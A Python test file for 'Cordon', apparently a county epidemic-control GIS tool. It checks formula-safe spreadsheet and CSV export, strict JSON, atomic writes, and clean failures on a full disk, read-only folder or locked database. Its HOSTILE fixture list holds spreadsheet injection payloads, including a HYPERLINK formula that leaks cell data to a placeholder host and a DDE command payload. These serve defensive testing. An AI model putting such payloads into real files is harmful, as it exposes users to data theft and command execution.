"""Files out and failures: no imported text leaves Cordon as a live Excel formula, every ``--json`` is strict
JSON, outputs are replaced atomically, and a full disk, a read-only folder or a project held by another
program ends a command with one clear line and exit code 2, the project unchanged."""

import hashlib
import json
import math
import os
import resource
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
import shapely
from openpyxl import load_workbook

from data import strict_json
from data.atomic import atomic_output, remove_stale_temporaries
from data.capacity_store import plan_allocation, write_transfer_lists
from data.exports import export
from data.project import Project
from data.xlsx_cells import csv_text
from data.zone_store import zone_record
from gis.errors import UserError

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://x?leak="&A2,"a")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1",
           "\r=1"]


def cli(*args, env=None, preexec_fn=None, timeout=300):
    """Run ``python main.py args`` as a user would; returns the finished process (text output)."""
    environment = {**os.environ, "CORDON_LANG": "zh", **(env or {})}
    return subprocess.run([sys.executable, str(ROOT / "main.py"), *map(str, args)], cwd=ROOT, env=environment,
                          capture_output=True, text=True, preexec_fn=preexec_fn, timeout=timeout)


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def one_error_line(result) -> str:
    """The one line a failed command printed after any waiting notice; fails on a traceback."""
    assert "Traceback" not in result.stderr, result.stderr
    lines = [line for line in result.stderr.splitlines() if line and "正在等待" not in line]
    assert len(lines) == 1, result.stderr
    assert result.returncode == 2, result.stderr
    return lines[0]


def square(x, y, size=0.02):
    return shapely.box(x, y, x + size, y + size)


def build_county(path: Path, names: list[str]) -> Project:
    """A small county (GCS CGCS2000) whose villages, grids, sites, zones and cases are called ``names``."""
    project = Project.create(path, name="测试县", county_code="410000")
    n = len(names)
    villages = gpd.GeoDataFrame({
        "code": [f"4100001010{i:02d}" for i in range(n)] + ["410000101", "410000"],
        "name": names + ["城关镇", "测试县"],
        "level": ["village"] * n + ["town", "county"],
        "parent_code": ["410000101"] * n + ["410000", None],
        "population": [1200 + i for i in range(n)] + [9000, 90000],
    }, geometry=[square(113.0 + 0.02 * i, 34.0) for i in range(n)] + [square(113.0, 34.0, 0.02 * n)] * 2,
        crs=4490)
    grids = gpd.GeoDataFrame({"code": [f"G{i}" for i in range(n)], "name": names,
                              "unit_code": villages["code"][:n].tolist()},
                             geometry=[square(113.0 + 0.02 * i, 34.0) for i in range(n)], crs=4490)
    sites = gpd.GeoDataFrame({"name": names, "status": "active", "rooms": 50, "occupied": 1,
                              "town_code": "410000101", "address": names},
                             geometry=shapely.points([(113.005 + 0.02 * i, 34.015) for i in range(n)]), crs=4490)
    cases = gpd.GeoDataFrame({
        "case_no": names * 2, "address": names * 2,
        "category": ["confirmed"] * n + ["close_contact"] * n,
        "reported_at": "2026-11-18T08:00:00", "grid_code": [f"G{i}" for i in range(n)] * 2,
    }, geometry=shapely.points([(113.01 + 0.02 * (i % n), 34.01) for i in range(2 * n)]), crs=4490)
    with project.transaction() as edit:
        edit.insert("admin_units", villages, log_each=False)
        edit.insert("grids", grids, log_each=False)
        edit.insert("isolation_sites", sites, log_each=False)
        edit.insert("cases", cases, log_each=False)
        for i, name in enumerate(names):
            edit.insert("control_zones", zone_record(square(113.0 + 0.02 * i, 34.0), tier="sealed", kind="unit",
                                                     name=name, at="2026-11-18T08:00:00"))
    return project


@pytest.fixture
def hostile_county(tmp_path) -> Project:
    """A county whose every name looks like a spreadsheet formula."""
    return build_county(tmp_path / "县.gpkg", HOSTILE)


@pytest.fixture
def plain_county(tmp_path) -> Project:
    return build_county(tmp_path / "县.gpkg", ["东关村", "西关村", "南街社区", "北街社区"])


def formula_cells(path: Path) -> list:
    book = load_workbook(path)
    return [(sheet.title, cell.coordinate, cell.value) for sheet in book for row in sheet.iter_rows()
            for cell in row if cell.data_type == "f"]


def texts(path: Path) -> set:
    book = load_workbook(path)
    return {cell.value for sheet in book for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}


def test_no_formula_leaves_in_any_workbook(hostile_county, tmp_path):
    report = export(hostile_county, "xlsx", tmp_path / "简报.xlsx")
    transfer = write_transfer_lists(plan_allocation(hostile_county), tmp_path / "转运名单.xlsx")
    result = cli("stats", hostile_county.path, "--by", "grid", "--xlsx", tmp_path / "统计.xlsx")
    assert result.returncode == 0, result.stderr
    for path in (report, transfer, tmp_path / "统计.xlsx"):
        assert formula_cells(path) == [], path
        assert {h for h in HOSTILE if not h.startswith("\r")} <= {t.replace("_x000D_", "\r") for t in texts(path)}, path


def test_text_that_looks_like_a_formula_gets_a_quote_in_csv():
    assert [csv_text(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert csv_text("城关镇") == "城关镇" and csv_text(3) == 3


def strict_loads(text: str):
    def refuse(token):
        raise AssertionError(f"non-JSON token {token}")

    return json.loads(text, parse_constant=refuse)


def test_every_json_output_is_strict_json(hostile_county):
    with hostile_county.transaction() as edit:
        for radius in (math.inf, -math.inf):
            edit.insert("control_zones", zone_record(shapely.Point(113.01, 34.01).buffer(0.001), tier="sealed",
                                                     kind="circle", name="半径异常", radius_m=radius))
    path = hostile_county.path
    for args in (("info", path, "--json"), ("zones", path, "list", "--json", "--date", "2026-11-20"),
                 ("zones", path, "propose", "--json", "--date", "2026-11-20"), ("capacity", path, "--json"),
                 ("stats", path, "--by", "town", "--json")):
        result = cli(*args)
        assert result.returncode == 0, result.stderr
        strict_loads(result.stdout)
    listed = strict_loads(cli("zones", path, "list", "--json", "--date", "2026-11-20").stdout)
    assert [z["name"] for z in listed].count("半径异常") == 2


def test_non_finite_numbers_become_null():
    value = {"radius": math.inf, "rooms": [np.float64("nan"), np.float32(2.5), -math.inf], "n": np.int64(3)}
    assert strict_loads(strict_json.dumps(value, default=lambda v: v.item())) == {
        "radius": None, "rooms": [None, 2.5, None], "n": 3}


# -- atomic outputs ------------------------------------------------------------------------------------


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "图.pdf"
    target.write_bytes(b"old")
    with pytest.raises(RuntimeError), atomic_output(target) as tmp:
        tmp.write_bytes(b"half")
        raise RuntimeError("crash")
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["图.pdf"]


def test_only_stale_temporaries_are_removed(tmp_path):
    old = [tmp_path / ".县.gpkg.x1.cordon-tmp", tmp_path / ".县.gpkg.x1.cordon-tmp-journal",
           tmp_path / ".县.gpkg.abc.tmp", tmp_path / ".图.pdf.y2.cordon-tmp"]
    fresh = tmp_path / ".图.pdf.z3.cordon-tmp"
    kept = [tmp_path / "县.gpkg", tmp_path / "县.gpkg-journal", tmp_path / ".notes.tmp", fresh]
    for path in old + kept:
        path.write_bytes(b"x")
    hour_ago = time.time() - 3600
    for path in old + kept[:-1]:
        os.utime(path, (hour_ago, hour_ago))
    assert sorted(remove_stale_temporaries(tmp_path)) == sorted(old)
    assert all(path.exists() for path in kept)


# -- disk full, read-only folder, project held by another program --------------------------------------


def file_size_limit(limit: int):
    """A preexec function giving the child a file size limit: writes beyond it fail as on a full disk."""
    def apply():
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


@pytest.fixture
def cases_csv(tmp_path) -> Path:
    path = tmp_path / "病例.csv"
    rows = [f"C{i},确诊病例,2026-11-18 08:00,{113.001 + (i % 97) * 0.001:.5f},{34.001 + (i % 89) * 0.0001:.5f}"
            for i in range(3000)]
    path.write_text("病例编号,类别,报告时间,经度,纬度\n" + "\n".join(rows) + "\n", encoding="utf-8")
    return path


def import_args(project: Path, csv: Path) -> tuple:
    return ("import", project, csv, "--layer", "cases", "--lon-col", "经度", "--lat-col", "纬度", "--crs", "wgs84")


def test_a_full_disk_gives_one_line_and_leaves_the_project_as_it_was(hostile_county, cases_csv, tmp_path):
    project = hostile_county.path
    hostile_county.close()
    before = digest(project)
    out = tmp_path / "out"
    growing = file_size_limit(project.stat().st_size + 4096)  # the project cannot grow: a full disk
    tiny = file_size_limit(1024)
    for args, target, limit in (
            (import_args(project, cases_csv), project, growing),
            (("zones", project, "propose", "--apply", "--date", "2026-11-20"), project, growing),
            (("new", out / "新.gpkg", "--sample"), out / "新.gpkg", growing),
            (("new", project, "--sample", "--force"), project, growing),
            (("export", project, "--format", "xlsx", "--out", out / "简报.xlsx"), out / "简报.xlsx", tiny),
            (("export", project, "--format", "geojson", "--layer", "admin_units", "--out", out / "a.geojson"),
             out / "a.geojson", tiny),
            (("stats", project, "--by", "grid", "--xlsx", out / "统计.xlsx"), out / "统计.xlsx", tiny)):
        line = one_error_line(cli(*args, preexec_fn=limit))
        assert str(target) in line and ("磁盘" in line or "文件超过" in line), line
        assert digest(project) == before
        assert not out.exists() or [p.name for p in out.iterdir()] == []


def read_only_folder_command(folder: Path, args: tuple) -> list[str]:
    """``main.py args`` run where ``folder`` is really read-only, also for root (a read-only bind mount in a
    private mount namespace); for other users the folder's write permission is taken away instead."""
    command = [sys.executable, str(ROOT / "main.py"), *map(str, args)]
    if os.geteuid() != 0:
        folder.chmod(0o555)
        return command
    script = 'mount --bind "$0" "$0" && mount -o remount,bind,ro "$0" && exec "$@"'
    return ["unshare", "--mount", "sh", "-c", script, str(folder), *command]


def test_a_read_only_folder_gives_one_line_and_leaves_the_project_as_it_was(plain_county, cases_csv, tmp_path):
    folder = tmp_path / "只读"
    folder.mkdir()
    project = Path(shutil.copy(plain_county.path, folder / "县.gpkg"))
    before = digest(project)
    try:
        for args in (import_args(project, cases_csv), ("new", folder / "新.gpkg"),
                     ("stats", project, "--by", "grid", "--xlsx", folder / "统计.xlsx"),
                     ("print", project, "--out", folder / "图.pdf")):
            command = read_only_folder_command(folder, args)
            result = subprocess.run(command, cwd=ROOT, env={**os.environ, "CORDON_LANG": "zh"}, capture_output=True,
                                    text=True, timeout=300)
            line = one_error_line(result)
            assert any(word in line for word in ("只读", "权限", "可写")), line
            assert digest(project) == before
        reading = subprocess.run(read_only_folder_command(folder, ("info", project)), cwd=ROOT, capture_output=True,
                                 text=True, env={**os.environ, "CORDON_LANG": "zh"}, timeout=300)
        assert reading.returncode == 0 and "测试县" in reading.stdout, reading.stderr  # reading needs no write
    finally:
        folder.chmod(0o755)
    assert sorted(p.name for p in folder.iterdir()) == ["县.gpkg"]


def hold(path: Path, statement: str, seconds: float) -> threading.Thread:
    """Another program holding ``path`` (``BEGIN EXCLUSIVE``, a write or a read in progress) for ``seconds``."""
    ready = threading.Event()

    def run():
        conn = sqlite3.connect(path, isolation_level=None)
        for part in statement.split(";"):
            conn.execute(part).fetchall()
        if "IMMEDIATE" in statement:
            conn.execute("INSERT INTO cordon_meta (key, value) VALUES ('held', '1')")
        ready.set()
        time.sleep(seconds)
        conn.execute("ROLLBACK")
        conn.close()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    ready.wait(10)
    return thread


def test_a_locked_project_waits_visibly_then_fails_with_one_line(hostile_county, cases_csv):
    project = hostile_county.path
    hostile_county.close()
    before = digest(project)
    holder = hold(project, "BEGIN EXCLUSIVE", 60)
    for args in (import_args(project, cases_csv), ("info", project), ("zones", project, "propose", "--apply")):
        started = time.monotonic()
        result = cli(*args, env={"CORDON_BUSY_TIMEOUT_S": "2"})
        line = one_error_line(result)
        assert result.stderr.count("项目正被其他用户或程序使用，正在等待…") == 1
        assert str(project) in line and "其他用户或程序使用" in line, line
        assert time.monotonic() - started < 30
    assert holder.is_alive()
    assert digest(project) == before


def test_a_command_goes_on_once_the_other_program_lets_go(hostile_county, cases_csv):
    project = hostile_county.path
    hostile_county.close()
    other = sqlite3.connect(project, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    env = {**os.environ, "CORDON_LANG": "zh", "CORDON_BUSY_TIMEOUT_S": "60"}
    command = subprocess.Popen([sys.executable, str(ROOT / "main.py"), *map(str, import_args(project, cases_csv))],
                               cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert "项目正被其他用户或程序使用，正在等待…" in command.stderr.readline()
    time.sleep(1)
    other.execute("ROLLBACK")  # the other program lets go while the command waits
    other.close()
    assert command.wait(120) == 0, command.stderr.read()
    assert Project.open(project).count("cases") == 2 * len(HOSTILE) + 3000


def test_reading_takes_no_write_lock(hostile_county):
    project = hostile_county.path
    hostile_county.close()
    hold(project, "BEGIN IMMEDIATE", 30)  # another user is in the middle of a change
    for args in (("info", project, "--json"), ("stats", project, "--by", "town", "--json"),
                 ("zones", project, "list", "--json")):
        result = cli(*args, env={"CORDON_BUSY_TIMEOUT_S": "3"})
        assert result.returncode == 0 and "正在等待" not in result.stderr, result.stderr


def test_transaction_failure_after_sqlite_rolled_back_reports_the_cause(hostile_county):
    """SQLite ends the transaction itself after a full disk; the cause must reach the user, not a
    "cannot rollback" error."""
    with pytest.raises(UserError, match="磁盘"), hostile_county.transaction() as edit:
        edit.conn.execute("ROLLBACK")
        raise UserError("磁盘已满", "disk full")


def test_the_window_shows_that_it_waits_for_another_program(cordon_app, qtbot, plain_county, monkeypatch):
    from desktop.main_window import MainWindow

    monkeypatch.setenv("CORDON_BUSY_TIMEOUT_S", "20")
    window = MainWindow(plain_county)
    qtbot.addWidget(window)
    hold(plain_county.path, "BEGIN EXCLUSIVE", 1.5)
    counted = []
    worker = threading.Thread(target=lambda: counted.append(plain_county.count("cases")))
    worker.start()  # an import or export worker reading the project while another program holds it
    qtbot.waitUntil(lambda: "其他用户或程序使用，正在等待" in window.statusBar().currentMessage(), timeout=10_000)
    worker.join(20)
    assert counted == [2 * 4]
    window.statusBar().clearMessage()
    hold(plain_county.path, "BEGIN EXCLUSIVE", 1.5)
    assert plain_county.count("cases") == 2 * 4  # the UI thread itself waiting
    assert "正在等待" in window.statusBar().currentMessage()


def test_a_large_change_beside_a_reader_waits_only_to_commit_and_says_so(plain_county):
    """A reader holding the file cannot stall the writing itself (page by page, unseen); only the commit
    waits for it, telling ``on_wait``, and goes on once the reader is done."""
    n = 60_000
    rng = np.random.default_rng(3)
    frame = gpd.GeoDataFrame({"case_no": [f"B{i:05d}" for i in range(n)], "category": "close_contact",
                              "address": "城关镇东关村一组" * 4},
                             geometry=shapely.points(rng.uniform(113.0, 113.08, n), rng.uniform(34.0, 34.02, n)),
                             crs=4490)
    waits = []
    plain_county.on_wait = waits.append
    hold(plain_county.path, "BEGIN; SELECT count(*) FROM cases", 4)
    started = time.monotonic()
    with plain_county.transaction() as edit:
        edit.insert("cases", frame, log_each=False)
        assert time.monotonic() - started < 3
    assert waits and time.monotonic() - started >= 3
    assert plain_county.count("cases") == 2 * 4 + n
